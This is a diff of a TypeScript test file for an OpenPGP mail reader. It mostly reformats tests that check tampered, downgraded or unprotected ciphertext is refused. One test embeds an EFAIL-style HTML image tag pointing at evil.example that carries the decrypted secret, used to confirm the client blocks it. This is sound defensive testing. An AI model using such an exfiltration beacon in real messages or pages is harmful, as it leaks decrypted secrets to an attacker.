@@ -3,7 +3,20 @@
 import { beforeAll, describe, expect, it } from "vitest";
 import { openpgp } from "../../src/domain/pgp/openpgp";
 import { armored, join, literal, packet, packetsIn, rebuilt, TYPE } from "./packets";
-import { aliceSide, drawn, head, isPositive, pgpMime, read, readArmor, SECRET, type Side, sealed, stateOf, textPart } from "./world";
+import {
+  aliceSide,
+  drawn,
+  head,
+  isPositive,
+  pgpMime,
+  read,
+  readArmor,
+  SECRET,
+  type Side,
+  sealed,
+  stateOf,
+  textPart,
+} from "./world";
 
 let side: Side;
 let honest: string;
@@ -41,24 +54,47 @@ describe("sealed data that was changed", () => {
   });
 
   it("is refused without its MDC, with half of it, and with blocks cut out or moved", async () => {
-    await refuses(body((bytes) => bytes.subarray(0, -22)), ["not-authenticated"]);
-    await refuses(body((bytes) => bytes.subarray(0, -10)), ["not-authenticated"]);
-    await refuses(body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49))), ["not-authenticated"]);
-    await refuses(body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49, 65), bytes.subarray(33, 49), bytes.subarray(65))), ["not-authenticated"]);
+    await refuses(
+      body((bytes) => bytes.subarray(0, -22)),
+      ["not-authenticated"],
+    );
+    await refuses(
+      body((bytes) => bytes.subarray(0, -10)),
+      ["not-authenticated"],
+    );
+    await refuses(
+      body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49))),
+      ["not-authenticated"],
+    );
+    await refuses(
+      body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49, 65), bytes.subarray(33, 49), bytes.subarray(65))),
+      ["not-authenticated"],
+    );
   });
 
   it("is refused under another version of its protection, or another session key", async () => {
-    await refuses(body((bytes) => bytes.map((octet, index) => (index === 0 ? 3 : octet))), ["unsupported", "not-authenticated", "damaged"]);
-    await refuses(body((bytes) => bytes.map((octet, index) => (index === 0 ? 2 : octet))), ["unsupported", "not-authenticated", "damaged"]);
+    await refuses(
+      body((bytes) => bytes.map((octet, index) => (index === 0 ? 3 : octet))),
+      ["unsupported", "not-authenticated", "damaged"],
+    );
+    await refuses(
+      body((bytes) => bytes.map((octet, index) => (index === 0 ? 2 : octet))),
+      ["unsupported", "not-authenticated", "damaged"],
+    );
     const other = await sealed(side, "another");
     const [pkesk] = packetsIn(other);
-    await refuses(rebuilt(honest, (one) => (one.type === TYPE.pkesk ? pkesk! : one)), ["not-authenticated"]);
+    await refuses(
+      rebuilt(honest, (one) => (one.type === TYPE.pkesk ? pkesk! : one)),
+      ["not-authenticated"],
+    );
   });
 });
 
 /** The protection taken off: the same ciphertext under the packet type that has none (RFC 9580 5.7). */
 const downgraded = (): string =>
-  rebuilt(honest, (one) => (one.type === TYPE.protected ? { type: TYPE.unprotected, body: one.body.subarray(1) } : one));
+  rebuilt(honest, (one) =>
+    one.type === TYPE.protected ? { type: TYPE.unprotected, body: one.body.subarray(1) } : one,
+  );
 
 /** Honest old mail: made without protection, with a good signature inside. */
 async function old(content: string): Promise<string> {
@@ -69,10 +105,19 @@ async function old(content: string): Promise<string> {
     signingKeys: side.bob.secret,
     format: "object",
   });
-  const data = new (openpgp as unknown as { SymmetricallyEncryptedDataPacket: new () => SedPacket }).SymmetricallyEncryptedDataPacket();
+  const data = new (
+    openpgp as unknown as { SymmetricallyEncryptedDataPacket: new () => SedPacket }
+  ).SymmetricallyEncryptedDataPacket();
   data.packets = inner.packets;
   await data.encrypt(openpgp.enums.symmetric.aes256, keys.data, openpgp.config);
-  return armored(join(...packetsIn(honest).filter(({ type }) => type === TYPE.pkesk).map(({ type, body }) => packet(type, body)), packet(TYPE.unprotected, data.write())));
+  return armored(
+    join(
+      ...packetsIn(honest)
+        .filter(({ type }) => type === TYPE.pkesk)
+        .map(({ type, body }) => packet(type, body)),
+      packet(TYPE.unprotected, data.write()),
+    ),
+  );
 }
 
 interface SedPacket {
@@ -112,7 +157,11 @@ describe("data that nothing protects", () => {
     const asked = await read(side, head() + pgpMime(plain), { unprotected: true });
     expect(drawn(asked)).toContain(SECRET);
     expect(stateOf(asked)).toBe("none");
-    const html = await read(side, head() + pgpMime(await old(textPart(`<img src="https://evil.example/${SECRET}">`, "text/html"))), { unprotected: true });
+    const html = await read(
+      side,
+      head() + pgpMime(await old(textPart(`<img src="https://evil.example/${SECRET}">`, "text/html"))),
+      { unprotected: true },
+    );
     expect(html.kind === "opened" && html.shown.blocks.every((block) => block.html === null)).toBe(true);
     expect(html.kind === "opened" && [...html.shown.resources, ...html.shown.attachments]).toEqual([]);
   });
@@ -125,7 +174,11 @@ describe("data that nothing protects", () => {
   it("hides behind no packet of a protected kind beside it", async () => {
     const parts = packetsIn(honest).map(({ type, body: own }) => packet(type, own));
     const bare = packet(TYPE.unprotected, packetsIn(honest).at(-1)!.body.subarray(1));
-    for (const message of [join(...parts, bare), join(parts[0]!, bare, parts.at(-1)!), join(...parts, literal("added"))]) {
+    for (const message of [
+      join(...parts, bare),
+      join(parts[0]!, bare, parts.at(-1)!),
+      join(...parts, literal("added")),
+    ]) {
       const opened = await readArmor(side, armored(message), { unprotected: true });
       expect(typeof opened === "string" || !isPositive(opened.signature.state)).toBe(true);
     }
